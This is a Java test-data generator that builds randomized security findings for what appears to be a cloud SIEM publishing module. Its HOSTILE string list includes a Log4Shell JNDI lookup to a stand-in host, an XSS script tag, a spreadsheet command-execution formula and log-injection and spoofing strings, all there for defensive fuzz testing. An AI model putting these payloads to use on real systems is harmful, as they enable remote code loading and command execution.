package nl.dijkwacht.publish.samples;

import java.time.Instant;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.function.Supplier;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import nl.dijkwacht.core.finding.Drift;
import nl.dijkwacht.core.finding.Episodes;
import nl.dijkwacht.core.finding.Finding;
import nl.dijkwacht.core.finding.FindingCommand;
import nl.dijkwacht.core.finding.Handling;
import nl.dijkwacht.core.finding.Suppression;
import nl.dijkwacht.core.resource.Classification;
import nl.dijkwacht.core.resource.ResourceId;
import nl.dijkwacht.core.signal.Level;
import nl.dijkwacht.core.signal.RuleRef;
import nl.dijkwacht.core.signal.Subject;
import nl.dijkwacht.core.trail.EventSummary;
import nl.dijkwacht.core.trail.Principal;
import nl.dijkwacht.core.trail.Provenance;
import nl.dijkwacht.core.verdict.Attribution;
import nl.dijkwacht.core.verdict.Change;
import nl.dijkwacht.core.verdict.Verdict;

/** Findings of any form, with texts that somebody may have put there on purpose. */
// The checker does not see in class files what may be null.
@SuppressWarnings("NullAway")
public final class RandomFindings {

  private static final List<String> HOSTILE =
      List.of(
          "",
          " ",
          "\u0000",
          "\ud800",
          "\udc00x",
          "\"},{\"class_uid\":9999",
          "\u202egnp.exe",
          "\r\nCEF:0|x|y",
          "x".repeat(5000),
          "\ud83d\ude00".repeat(600),
          "${jndi:ldap://evil.example/a}",
          "<script>alert(1)</script>",
          "=cmd|' /C calc'!A0",
          "arn:aws:iam::111122223333:role/a/b",
          "aws/111122223333/eu-west-1/AWS::RDS::DBInstance/db-1",
          "////",
          "253.252.51.07",
          "999.1.2.3",
          "2001:db8::1",
          "::",
          "s3.amazonaws.com",
          "AWS Internal");

  private static final List<String> TAGS =
      List.of(
          "attack.t1530",
          "attack.t1078.004",
          "attack.exfiltration",
          "attack.command-and-control",
          "attack.t15300",
          "attack.",
          "attack.T1530",
          "attack.g0016",
          "avg.art-32-1-b",
          "avg.art-",
          "iso-27001.a.8.24",
          "nis2.21-2-h",
          RuleRef.PERSONAL_DATA,
          "");

  private final Random random;

  public RandomFindings(long seed) {
    this.random = new Random(seed);
  }

  public Finding next() {
    Level level = one(Level.values());
    EventSummary first = event();
    EventSummary latest = random.nextInt(3) == 0 ? first : event();
    return new Finding(
        SiemSamples.FINDING,
        one(Finding.Status.values()),
        rule(level),
        subject(),
        level,
        random.nextInt(4) == 0 ? Long.MAX_VALUE : 1 + random.nextInt(9),
        first,
        latest,
        maybe(() -> one(Level.values())),
        maybe(() -> new Episodes(2, time(), maybe(this::time), List.of(time()), true)),
        maybe(this::drift),
        maybe(() -> new Suppression(text(), text(), text(), time())),
        maybe(this::handling));
  }

  private RuleRef rule(Level level) {
    List<String> tags = random.ints(random.nextInt(6), 0, TAGS.size()).mapToObj(TAGS::get).toList();
    return new RuleRef(text(), text(), text(), text(), level, tags, texts());
  }

  private Subject subject() {
    Map<String, String> fields = new LinkedHashMap<>();
    Stream.of("resource", "asset", "resources", "requestParameters.bucketName", "country", text())
        .filter(field -> random.nextBoolean())
        .forEach(field -> fields.put(field, text()));
    return new Subject(random.nextBoolean() ? "111122223333" : text(), fields);
  }

  private EventSummary event() {
    return new EventSummary(
        text(),
        time(),
        time(),
        text(),
        text(),
        text(),
        text(),
        new Principal(one(Principal.Kind.values()), text(), maybe(this::text)),
        maybe(this::text),
        maybe(this::text),
        maybe(this::text),
        maybe(() -> new Provenance(text(), 1)),
        maybe(this::text),
        null);
  }

  private Drift drift() {
    return new Drift(
        new ResourceId(text(), text(), text(), text(), text()),
        maybe(this::text),
        maybe(this::text),
        new Classification(
            random.nextBoolean(), random.nextBoolean(), random.nextBoolean(), text(), List.of()),
        one(Verdict.Result.values()),
        time(),
        time(),
        one(Verdict.Standing.values()),
        random.nextBoolean(),
        text(),
        maybe(this::attribution),
        maybe(this::attribution),
        1);
  }

  private Attribution attribution() {
    return new Attribution(
        one(Attribution.Confidence.values()),
        event(),
        one(Change.Means.values()),
        maybe(this::text),
        maybe(random::nextBoolean),
        random.nextInt(3));
  }

  private Handling handling() {
    return new Handling(
        maybe(() -> new Handling.Acknowledgement(text(), time())),
        maybe(this::text),
        List.of(new Handling.Comment(text(), time(), text())),
        maybe(
            () ->
                new Handling.Closing(
                    one(FindingCommand.ClosedAs.values()),
                    text(),
                    time(),
                    text(),
                    maybe(this::text),
                    one(Level.values()))),
        maybe(() -> new Handling.Deferral(text(), text(), time(), text(), time())),
        maybe(() -> new Handling.Deferral(text(), text(), time(), text(), time())),
        null,
        maybe(this::text));
  }

  private List<String> texts() {
    return IntStream.range(0, random.nextInt(80)).mapToObj(i -> text()).toList();
  }

  private String text() {
    return random.nextInt(3) == 0 ? randomText() : HOSTILE.get(random.nextInt(HOSTILE.size()));
  }

  private String randomText() {
    char[] chars = new char[random.nextInt(20)];
    for (int i = 0; i < chars.length; i++) {
      chars[i] = (char) random.nextInt(Character.MAX_VALUE + 1);
    }
    return new String(chars);
  }

  private Instant time() {
    return Instant.ofEpochSecond(1_000_000_000L + random.nextInt(1_000_000_000));
  }

  private <T> T maybe(Supplier<T> value) {
    return random.nextBoolean() ? value.get() : null;
  }

  private <T> T one(T[] values) {
    return values[random.nextInt(values.length)];
  }
}
